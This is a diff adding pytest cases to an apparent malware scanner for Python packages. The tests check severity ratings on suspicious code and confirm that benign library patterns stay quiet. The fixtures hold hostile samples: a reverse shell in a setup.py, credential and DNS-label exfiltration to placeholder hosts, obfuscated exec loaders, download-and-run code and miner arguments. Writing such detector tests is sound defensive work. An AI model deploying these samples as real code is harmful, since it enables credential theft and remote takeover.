@@ -723,3 +723,549 @@ def test_seen_in_real_libraries_stays_quiet() -> None:
         pty.spawn(sys.argv[1:])
     """
     assert loud(run("pkg/util/connection.py", source)) == []
+
+
+# --------------------------------------------------------------------------- precision
+# Shapes of healthy code the detectors once called high, and the rules that keep them low.
+
+
+def test_http_session_send_is_not_a_socket_send() -> None:
+    # botocore/utils.py: a module importing socket, an HTTP session's .send, and a cache
+    # directory under ~/.aws, with no data flowing from one to the other
+    findings = run(
+        "botocore/utils.py",
+        """
+        import os
+        import socket
+
+        class InstanceMetadataFetcher:
+            def __init__(self, session):
+                self._session = session
+                self._cache = os.path.join('~', '.aws', 'boto', 'cache')
+
+            def _get_request(self, request):
+                response = self._session.send(request.prepare())
+                return response
+        """,
+    )
+    assert loud(findings) == []
+
+
+def test_credential_path_must_flow_into_what_is_sent() -> None:
+    findings = run(
+        "pkg/keys.py",
+        """
+        import os
+        import requests
+
+        KNOWN_HOSTS = os.path.expanduser("~/.ssh/known_hosts")
+
+        def report(version):
+            requests.post("https://example.invalid/ping", data={"version": version})
+        """,
+    )
+    assert [f for f in findings if f.id == "exfiltration"] == []
+
+
+def test_socket_send_needs_a_socket() -> None:
+    findings = run(
+        "pkg/net.py",
+        """
+        import os, socket
+
+        def leak(channel):
+            channel.send(str(dict(os.environ)))
+
+        def beacon():
+            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            s.connect(("198.51.100.7", 4444))
+            s.sendall(open(os.path.join(os.path.expanduser("~"), ".aws", "credentials")).read())
+        """,
+    )
+    assert [f.line for f in findings if f.id == "exfiltration"] == [9]
+
+
+def test_import_time_url_from_a_parameter_is_medium() -> None:
+    # matplotlib/__init__.py: the rc file is opened with urlopen only when it is a URL,
+    # and the path comes from a function looking for the rc file
+    findings = run(
+        "matplotlib/__init__.py",
+        """
+        import contextlib
+        import os
+
+        def matplotlib_fname():
+            return os.environ.get("MATPLOTLIBRC", "matplotlibrc")
+
+        @contextlib.contextmanager
+        def _open_file_or_url(fname):
+            if fname.startswith(("http://", "https://")):
+                import urllib.request
+                with urllib.request.urlopen(fname) as f:
+                    yield f
+            else:
+                fname = os.path.expanduser(fname)
+                with open(fname) as f:
+                    yield f
+
+        def rc_params_from_file(fname):
+            with _open_file_or_url(fname) as fd:
+                return fd.read()
+
+        rcParams = rc_params_from_file(matplotlib_fname())
+        """,
+    )
+    assert at(findings, "import-time-exec", 11).severity == Severity.MEDIUM
+
+
+def test_import_time_url_passed_as_a_constant_is_high() -> None:
+    findings = run(
+        "pkg/__init__.py",
+        """
+        import urllib.request
+
+        def _fetch(url):
+            return urllib.request.urlopen(url).read()
+
+        _fetch("https://collector.example.invalid/beacon")
+        """,
+    )
+    assert at(findings, "import-time-exec", 4).severity == Severity.HIGH
+
+
+def test_import_time_loopback_is_low() -> None:
+    # fastapi's screenshot scripts and urllib3's dummyserver talk to this machine
+    findings = run(
+        "pkg/probe.py",
+        """
+        import socket
+        import httpx
+
+        def _resolves_to_ipv6(host):
+            return any(r[0] == socket.AF_INET6 for r in socket.getaddrinfo(host, None))
+
+        HAS_IPV6 = _resolves_to_ipv6("localhost")
+        DOCS = httpx.get("http://localhost:8000/docs")
+        API = httpx.get(f"http://127.0.0.1:{8000}/api")
+        """,
+    )
+    assert [f.severity for f in findings if f.id == "import-time-exec"] == [Severity.LOW] * 3
+
+
+def test_import_time_url_hidden_in_base64_is_still_high() -> None:
+    findings = run(
+        "pkg/__init__.py",
+        """
+        import base64
+        import requests
+
+        CONFIG = {"url": base64.b64decode("aHR0cHM6Ly9jMi5leGFtcGxlLmludmFsaWQv").decode()}
+        requests.get(CONFIG["url"])
+        """,
+    )
+    assert at(findings, "import-time-exec", 5).severity == Severity.HIGH
+
+
+def test_pth_exec_of_a_harmless_literal_is_low() -> None:
+    # coverage's a1_coverage.pth
+    line = (
+        'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START"):\\n try:\\n'
+        "  import coverage\\n except:\\n  pass\\n else:\\n  coverage.process_startup()')\n"
+    )
+    findings = analyse_file("a1_coverage.pth", line.encode())
+    assert [(f.line, f.severity) for f in findings] == [(1, Severity.LOW)]
+
+
+def test_pth_literal_code_is_judged_by_what_it_does() -> None:
+    findings = analyse_file(
+        "litellm_init.pth",
+        b"import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
+        b"\"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\"])\n"
+        b"import sys; exec('import subprocess\\nsubprocess.run([\"id\"])')\n"
+        b"import sys; exec(sys.argv[0])\n"
+        b"import os; __import__('os').system('id')\n",
+    )
+    assert [(f.line, f.severity) for f in findings] == [
+        (1, Severity.CRITICAL),
+        (2, Severity.HIGH),
+        (3, Severity.HIGH),
+        (4, Severity.HIGH),
+    ]
+
+
+def test_zero_width_joiners_in_strings_and_comments_are_text() -> None:
+    # wcwidth's emoji tables, sqlalchemy's tests, a comment copied from CUDA's docs
+    source = (
+        "FAMILY = '\U0001f468\u200d\U0001f469\u200d\U0001f467'\n"
+        "NON_JOINER = 'a\u200cb'\n"
+        "# \u200bcudaError_t cudaSetDevice ( int device )\n"
+        "STRIP = ' \\t\ufeff'\n"
+    )
+    assert analyse_file("wcwidth/table_zero.py", source.encode()) == []
+
+
+def test_hidden_unicode_messages_name_what_was_found() -> None:
+    source = "x = 1  # \u202e reversed\ny = 'a\u200bb'\nz\u200b = 2\n"
+    findings = analyse_file("pkg/mod.py", source.encode())
+    bidi = at(findings, "hidden-unicode", 1)
+    assert bidi.severity == Severity.HIGH and "bidirectional" in bidi.message
+    for line in (2, 3):
+        zero = at(findings, "hidden-unicode", line)
+        assert zero.severity == Severity.LOW
+        assert "zero-width" in zero.message and "bidirectional" not in zero.message
+
+
+# --------------------------------------------------------------------------- new shapes
+
+
+def test_decoder_hidden_in_a_lambda_or_function() -> None:
+    packed = base64.b64encode(zlib.compress(b"print(1)")).decode()[::-1]
+    findings = run(
+        "aiocpa/utils/sync.py",
+        f"""
+        _ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))
+        exec((_)(b'{packed}'))
+
+        def unpack(blob):
+            data = _(blob)
+            return data
+
+        exec(unpack(b'{packed}'))
+        """,
+    )
+    assert at(findings, "obfuscated-exec", 2).severity == Severity.CRITICAL
+    assert at(findings, "obfuscated-exec", 8).severity == Severity.CRITICAL
+
+
+def test_exec_of_any_call_on_a_long_blob_is_critical() -> None:
+    rng = random.Random(3)
+    blob = base64.b64encode(rng.randbytes(3000)).decode()
+    findings = run("pkg/x.py", f"from .codec import unveil\nexec(unveil('{blob}'))\n")
+    assert at(findings, "obfuscated-exec", 2).severity == Severity.CRITICAL
+
+
+def test_bytes_decoded_with_an_unusual_codec() -> None:
+    findings = run(
+        "discord_rpc_tools/__init__.py",
+        r"""
+        import builtins
+        cc = getattr(builtins, b'\x85\xa7\x85\x83'.decode('cp1026'))
+        exec(b'\x97\x99\x89\x95\xa3M]'.decode('cp1026'))
+        label = b'caf\xc3\xa9'.decode('utf-8')
+        """,
+    )
+    assert at(findings, "obfuscated-exec", 2).severity == Severity.CRITICAL
+    assert at(findings, "obfuscated-exec", 3).severity == Severity.CRITICAL
+    assert [f.line for f in findings] == [2, 3]
+
+
+def test_builtin_called_through_a_computed_name() -> None:
+    findings = run(
+        "pkg/core.py",
+        """
+        import builtins
+
+        def run(code, key):
+            getattr(builtins, key.encode()[::-1].decode())(code)
+
+        def convert(type_name, value):
+            # typing_extensions, pandas: lookup by a plain name is ordinary
+            return getattr(builtins, type_name)(value)
+
+        def error_class(errclass):
+            # ptyprocess: with a default, a lookup that may fail
+            return getattr(builtins, errclass.decode("ascii"), Exception)
+        """,
+    )
+    assert at(findings, "obfuscated-exec", 4).severity == Severity.HIGH
+    assert [f.line for f in loud(findings)] == [4]
+
+
+def test_credential_variables_kept_on_self_and_sent_later() -> None:
+    findings = run(
+        "ctx.py",
+        """
+        from os import environ
+        import requests
+
+        class Ctx(dict):
+            def __init__(self):
+                self.access = environ.get("AWS_ACCESS_KEY_ID")
+                self.secret = environ.get("AWS_SECRET_ACCESS_KEY")
+                self.region = environ.get("AWS_DEFAULT_REGION")
+
+            def send(self):
+                requests.get("https://example.invalid/h/" + self.access + "/" + self.secret)
+
+            def ping(self):
+                requests.get("https://example.invalid/region/" + self.region)
+        """,
+    )
+    assert at(findings, "exfiltration", 11).severity == Severity.HIGH
+    assert [f.line for f in findings if f.id == "exfiltration"] == [11]
+
+
+def test_credentials_used_to_authenticate_or_sign_are_not_exfiltration() -> None:
+    findings = run(
+        "client/auth.py",
+        """
+        import hashlib
+        import hmac
+        import os
+        import requests
+
+        class Client:
+            def __init__(self):
+                self.token = os.environ["SERVICE_API_TOKEN"]
+                self.secret = os.getenv("AWS_SECRET_ACCESS_KEY")
+
+            def call(self, url, body):
+                signature = hmac.new(self.secret.encode(), body, hashlib.sha256).hexdigest()
+                return requests.post(
+                    url + "?sig=" + signature,
+                    data=body,
+                    headers={"Authorization": "Bearer " + self.token},
+                )
+        """,
+    )
+    assert [f for f in findings if f.id == "exfiltration"] == []
+
+
+def test_dns_labels_carrying_host_identity() -> None:
+    findings = run(
+        "acme-1.0/setup.py",
+        """
+        import getpass, os, socket
+        from setuptools import setup
+
+        ZONE = "d.example.invalid"
+
+        def _beacon():
+            data = "|".join([getpass.getuser(), socket.gethostname(), os.getcwd()])
+            for i, chunk in enumerate([data.encode().hex()]):
+                socket.gethostbyname(f"{chunk}.{i}.{ZONE}")
+
+        _beacon()
+        local_ip = socket.gethostbyname(socket.gethostname())
+        setup(name="acme")
+        """,
+    )
+    assert at(findings, "exfiltration", 9).severity == Severity.CRITICAL
+    assert at(findings, "install-hook", 9).severity == Severity.HIGH
+    assert [f.line for f in findings if f.id == "exfiltration"] == [9]
+
+
+def test_exec_of_decrypted_code_and_pip_in_setup() -> None:
+    findings = run(
+        "requestslib-2.31.0/setup.py",
+        """
+        import os
+        from setuptools import setup
+        os.system('pip install cryptography')
+        from cryptography.fernet import Fernet
+        exec(Fernet(b'a2V5').decrypt(b'gAAAAABtoken'))
+        setup(name="requestslib")
+        """,
+    )
+    assert at(findings, "install-hook", 3).severity == Severity.MEDIUM
+    assert at(findings, "obfuscated-exec", 5).severity == Severity.CRITICAL
+
+
+def test_compiled_bytecode_files() -> None:
+    pyc = analyse_file("fshec2/full.pyc", b"\xa7\r\r\n\x00\x00\x00\x00")
+    assert [(f.id, f.severity) for f in pyc] == [("compiled-bytecode", Severity.MEDIUM)]
+    assert analyse_file("pkg/__pycache__/mod.cpython-311.pyc", b"\xa7\r\r\n") == []
+
+
+def test_bytecode_loaded_from_a_named_pyc_or_at_import() -> None:
+    findings = run(
+        "fshec2/main.py",
+        """
+        import marshal
+        import os
+        from importlib.machinery import SourcelessFileLoader
+
+        def get_path():
+            here = os.path.dirname(os.path.abspath(__file__))
+            return SourcelessFileLoader("full", os.path.join(here, "full.pyc")).load_module()
+
+        def _read_pyc(fn):
+            # pytest's assertion rewriting, jinja2's bytecode cache: their own caches
+            with open(fn, "rb") as fp:
+                return marshal.load(fp)
+
+        with open(os.path.join(os.path.dirname(__file__), "blob.bin"), "rb") as f:
+            code = marshal.loads(f.read())
+        """,
+    )
+    assert at(findings, "compiled-bytecode", 7).severity == Severity.HIGH
+    assert at(findings, "compiled-bytecode", 15).severity == Severity.HIGH
+    assert [f.line for f in findings] == [7, 15]
+
+
+def test_thread_targets_run_at_import() -> None:
+    findings = run(
+        "pkg/__init__.py",
+        """
+        import atexit
+        import threading
+        import urllib.request
+
+        def _run():
+            urllib.request.urlopen("https://collector.example.invalid/x")
+
+        def _bye():
+            urllib.request.urlopen("https://collector.example.invalid/bye")
+
+        threading.Thread(target=_run, daemon=True).start()
+        atexit.register(_bye)
+        """,
+    )
+    assert at(findings, "import-time-exec", 6).severity == Severity.HIGH
+    assert at(findings, "import-time-exec", 9).severity == Severity.HIGH
+
+
+def test_download_unpack_chmod_and_run() -> None:
+    findings = run(
+        "lightning/_runtime/__init__.py",
+        """
+        import os, stat, subprocess, urllib.request, zipfile
+
+        def _provision(cache):
+            binary = os.path.join(cache, "bun")
+            archive = os.path.join(cache, "bun.zip")
+            urllib.request.urlretrieve("https://example.invalid/bun.zip", archive)
+            with zipfile.ZipFile(archive) as zf:
+                zf.extractall(cache)
+            os.chmod(binary, os.stat(binary).st_mode | stat.S_IEXEC)
+            subprocess.Popen([binary, "run", "x.js"])
+        """,
+    )
+    assert at(findings, "download-exec", 10).severity == Severity.CRITICAL
+
+
+def test_download_and_run_split_across_functions() -> None:
+    source = """
+    import os, subprocess
+    from pathlib import Path
+    import requests
+
+    def safe_download(url, file):
+        f = Path(file)
+        r = requests.get(url, timeout=30)
+        f.write_bytes(r.content)
+        return f
+
+    def safe_run(path):
+        os.chmod(path, 0o770)
+        command = [path, "--quiet"]
+        return subprocess.Popen(command)
+    """
+    findings = run("ultralytics/utils/downloads.py", source)
+    assert at(findings, "download-exec", 14).severity == Severity.HIGH
+    joined = run(
+        "ultralytics/utils/downloads.py",
+        textwrap.dedent(source)
+        + "\ndef setup():\n    safe_run(safe_download('https://example.invalid/r', '/tmp/r'))\n",
+    )
+    assert at(joined, "download-exec", 17).severity == Severity.CRITICAL
+
+
+def test_miner_arguments() -> None:
+    findings = run(
+        "pkg/worker.py",
+        """
+        import subprocess
+
+        def start(binary, wallet):
+            args = [binary, "-o", "pool.example.invalid:3333", "-u", wallet, "-k"]
+            subprocess.Popen(args)
+            subprocess.Popen(["./helper", "--url", "stratum+tcp://pool.example.invalid:443"])
+            subprocess.run(["curl", "-o", "out.txt", "-u", "user:pass", "https://example.invalid"])
+        """,
+    )
+    assert at(findings, "download-exec", 5).severity == Severity.HIGH
+    assert at(findings, "download-exec", 6).severity == Severity.HIGH
+    assert [f.line for f in findings if f.id == "download-exec"] == [5, 6]
+
+
+def test_reverse_shell() -> None:
+    findings = run(
+        "10cent10-999.0.4/setup.py",
+        """
+        import os, socket, subprocess
+        from setuptools import setup
+
+        def shell():
+            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            s.connect(("203.0.113.57", 8080))
+            os.dup2(s.fileno(), 0)
+            os.dup2(s.fileno(), 1)
+            subprocess.call(["/bin/sh", "-i"])
+
+        if os.fork() == 0:
+            shell()
+        setup(name="x")
+        """,
+    )
+    assert at(findings, "install-hook", 6).severity == Severity.HIGH
+    assert at(findings, "download-exec", 9).severity == Severity.CRITICAL
+    assert at(findings, "download-exec", 7).severity == Severity.CRITICAL
+
+
+def test_unix_socket_and_terminal_helpers_stay_quiet() -> None:
+    findings = run(
+        "pkg/ipc.py",
+        """
+        import os, pty, socket, subprocess
+
+        sock = socket.socket(socket.AF_UNIX)
+        sock.connect("/run/app.sock")
+
+        def terminal():
+            pty.spawn("/bin/bash")
+            subprocess.call(["bash", "-i"])
+        """,
+    )
+    assert loud(findings) == []
+
+
+def test_import_time_destination_is_read_through_names_and_formats() -> None:
+    findings = run(
+        "pkg/__init__.py",
+        """
+        import requests
+
+        HOST = "c2.example.invalid"
+        BASE = "https://telemetry.example.invalid"
+
+        def send(path, host):
+            requests.get(BASE + path)
+            requests.get("https://%s/x" % host)
+
+        send("/v1", HOST)
+        requests.post("https://" + HOST + "/in")
+        requests.get("https://{}/x".format(HOST.upper()))
+        requests.get("http://localhost" + ":" + str(8080))
+        """,
+    )
+    got = {f.line: f.severity for f in findings if f.id == "import-time-exec"}
+    assert got == {
+        7: Severity.HIGH,
+        8: Severity.MEDIUM,  # "https://%s/x" % host: the host is not in the code
+        11: Severity.HIGH,
+        12: Severity.MEDIUM,
+        13: Severity.LOW,
+    }
+
+
+def test_marshal_of_a_file_read_at_import_is_bytecode_loading() -> None:
+    findings = run(
+        "pkg/__init__.py",
+        """
+        import marshal, os
+        with open(os.path.join(os.path.dirname(__file__), "core.bin"), "rb") as f:
+            exec(marshal.loads(f.read()))
+        """,
+    )
+    assert at(findings, "compiled-bytecode", 3).severity == Severity.HIGH
